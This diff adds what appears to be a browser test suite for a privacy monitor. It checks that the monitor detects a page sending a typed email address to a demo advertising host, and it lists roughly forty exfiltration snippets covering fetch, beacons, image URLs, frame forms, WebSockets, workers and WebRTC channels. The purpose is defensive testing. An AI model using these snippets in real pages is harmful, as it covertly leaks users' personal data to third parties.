@@ -1,0 +1,132 @@
+import { expect, it } from 'vitest'
+import { PARTIES } from '../../demo/hosts'
+import { type Tab, until } from './browser-under-test'
+import { flowsOf, HOME, inEachBrowser, policyIsRead, type World } from './world'
+
+/** One test a way for data to leave a page; what no browser shows stands in docs/cannot-be-seen.md. */
+
+const EMAIL = 'ottoline.fairweather@mail.example'
+const HOST = PARTIES.advertising
+
+/** Page script that sends `EMAIL` to `URL`, by the name of the way. */
+const WAYS: Readonly<Record<string, string>> = {
+  'fetch, text': `fetch(URL, { method: 'POST', body: EMAIL })`,
+  'fetch, URLSearchParams': `fetch(URL, { method: 'POST', body: new URLSearchParams({ em: EMAIL }) })`,
+  'fetch, FormData': `fetch(URL, { method: 'POST', body: form({ em: EMAIL }) })`,
+  'fetch, the content of a file': `fetch(URL, { method: 'POST', body: form({ file: new File([JSON.stringify({ em: EMAIL })], 'a.json') }) })`,
+  'fetch, Blob': `fetch(URL, { method: 'POST', body: new Blob([JSON.stringify({ em: EMAIL })]) })`,
+  'fetch, ArrayBuffer': `fetch(URL, { method: 'POST', body: new TextEncoder().encode(EMAIL).buffer })`,
+  'fetch, typed array': `fetch(URL, { method: 'POST', body: new TextEncoder().encode(EMAIL) })`,
+  'fetch, Request object': `fetch(new Request(URL, { method: 'POST', body: EMAIL }))`,
+  'fetch, Request object with a Blob': `fetch(new Request(URL, { method: 'POST', body: new Blob([EMAIL]) }))`,
+  'fetch, keepalive': `fetch(URL, { method: 'POST', body: EMAIL, keepalive: true })`,
+  'fetch, header': `fetch(URL, { headers: { 'x-user': EMAIL } })`,
+  'fetch, query': `fetch(URL + '?em=' + encodeURIComponent(EMAIL))`,
+  'XHR, text': `xhr(EMAIL)`,
+  'XHR, Blob': `xhr(new Blob([JSON.stringify({ em: EMAIL })]))`,
+  'XHR, FormData': `xhr(form({ em: EMAIL }))`,
+  'beacon, text': `navigator.sendBeacon(URL, EMAIL)`,
+  'beacon, Blob': `navigator.sendBeacon(URL, new Blob([JSON.stringify({ em: EMAIL })], { type: 'application/json' }))`,
+  'beacon, FormData': `navigator.sendBeacon(URL, form({ em: EMAIL }))`,
+  'image address': `new Image().src = URL + '?em=' + EMAIL`,
+  'script address': `add('script', { src: URL + '?em=' + EMAIL })`,
+  'stylesheet address': `add('link', { rel: 'stylesheet', href: URL + '?em=' + EMAIL })`,
+  prefetch: `add('link', { rel: 'prefetch', href: URL + '?em=' + EMAIL })`,
+  EventSource: `new EventSource(URL + '?em=' + EMAIL)`,
+  'dynamic import': `void import(URL + '?em=' + EMAIL).catch(() => {})`,
+  'form in a frame, urlencoded': `frameForm('application/x-www-form-urlencoded', 'post')`,
+  'form in a frame, multipart': `frameForm('multipart/form-data', 'post')`,
+  'form in a frame, text': `frameForm('text/plain', 'post')`,
+  'form in a frame, GET': `frameForm('', 'get')`,
+  'WebSocket, text': `socket(EMAIL)`,
+  'WebSocket, bytes': `socket(new TextEncoder().encode(EMAIL))`,
+  'WebSocket, Blob': `socket(new Blob([EMAIL]))`,
+  'worker, fetch': `new Worker(window.URL.createObjectURL(new Blob(["fetch('" + URL + "', { method: 'POST', body: '" + EMAIL + "' })"])))`,
+  'about:blank frame, at once': `add('iframe', {}).contentWindow.fetch(URL, { method: 'POST', body: EMAIL })`,
+  'about:blank frame, Blob': `add('iframe', {}).contentWindow.navigator.sendBeacon(URL, new Blob([JSON.stringify({ em: EMAIL })]))`,
+  'srcdoc frame': `add('iframe', { srcdoc: inline })`,
+  'data: frame': `add('iframe', { src: 'data:text/html,' + encodeURIComponent(inline) })`,
+  'sandboxed frame': `add('iframe', { sandbox: 'allow-scripts', srcdoc: inline })`,
+  'data channel': `dataChannel()`,
+}
+
+const TOOLS = `
+  const EMAIL = '${EMAIL}', URL = 'https://${HOST}/way'
+  const form = values => { const data = new FormData(); for (const [name, value] of Object.entries(values)) data.append(name, value); return data }
+  const add = (tag, attributes) => { const element = Object.assign(document.createElement(tag), attributes); document.body.append(element); return element }
+  const xhr = body => { const request = new XMLHttpRequest(); request.open('POST', URL); request.send(body) }
+  const inline = '<script>fetch("' + URL + '", { method: "POST", mode: "no-cors", body: "' + EMAIL + '" })</' + 'script>'
+  const socket = data => { const one = new WebSocket(URL.replace('https', 'wss')); one.onopen = () => one.send(data) }
+  const frameForm = (enctype, method) => {
+    add('iframe', { name: 'target' })
+    const sent = add('form', { action: URL, method, enctype, target: 'target' })
+    sent.innerHTML = '<input name="em" value="' + EMAIL + '">'
+    sent.requestSubmit()
+  }
+  const dataChannel = async () => {
+    const [a, b] = [new RTCPeerConnection(), new RTCPeerConnection()]
+    a.onicecandidate = event => event.candidate && b.addIceCandidate(event.candidate)
+    b.onicecandidate = event => event.candidate && a.addIceCandidate(event.candidate)
+    const channel = a.createDataChannel('notes')
+    channel.onopen = () => channel.send(EMAIL)
+    await a.setLocalDescription(); await b.setRemoteDescription(a.localDescription)
+    await b.setLocalDescription(); await a.setRemoteDescription(b.localDescription)
+  }`
+
+async function ready(world: World): Promise<Tab> {
+  const tab = await world.browser.open(`${HOME}/sign-up`)
+  await policyIsRead(world)
+  await tab.type('[name=email]', EMAIL)
+  return tab
+}
+
+const emailsSent = async (world: World, since: number) =>
+  (await flowsOf(world, HOME, since)).filter(({ items }) => items.some(({ dataType }) => dataType === 'email'))
+
+inEachBrowser({}, world => {
+  it.each(Object.entries(WAYS))('seen: %s', async (_, way) => {
+    const tab = await ready(world())
+    const start = Date.now()
+    await tab.run(`(() => { ${TOOLS}; void (${way}) })()`)
+    const flows = await until(
+      () => emailsSent(world(), start),
+      found => found.length > 0,
+    )
+    expect(flows[0]?.page).toBe(`${HOME}/sign-up`)
+    expect(flows, 'seen once').toHaveLength(1)
+    expect(JSON.stringify(flows)).not.toContain(EMAIL)
+  })
+
+  it.each([
+    ['beacon', "addEventListener('pagehide', () => navigator.sendBeacon(URL, EMAIL))"],
+    [
+      'fetch keepalive',
+      "addEventListener('pagehide', () => fetch(URL, { method: 'POST', body: EMAIL, keepalive: true }))",
+    ],
+  ])('seen as the page is left, and put down to it: %s', async (_, way) => {
+    const tab = await ready(world())
+    const start = Date.now()
+    await tab.run(`(() => { ${TOOLS}; ${way} })()`)
+    await tab.goto(`${HOME}/`)
+    const flows = await until(
+      () => emailsSent(world(), start),
+      found => found.length > 0,
+    )
+    expect(flows[0]?.page).toBe(`${HOME}/sign-up`)
+  })
+
+  it('a stream is not read, and where it is a body that is said', async () => {
+    const { browser } = world()
+    const tab = await ready(world())
+    const start = Date.now()
+    await tab.run(`(() => { ${TOOLS}
+      void fetch(URL + '?em=' + EMAIL, { method: 'POST', duplex: 'half', body: new Blob([EMAIL]).stream() }).catch(() => {})
+    })()`)
+    const flows = await until(
+      () => emailsSent(world(), start),
+      found => found.length > 0,
+    )
+    // Firefox does not send streams: it sends the words "[object ReadableStream]".
+    expect(flows.some(({ unseen }) => unseen.length > 0)).toBe(browser.name === 'chromium')
+  })
+})
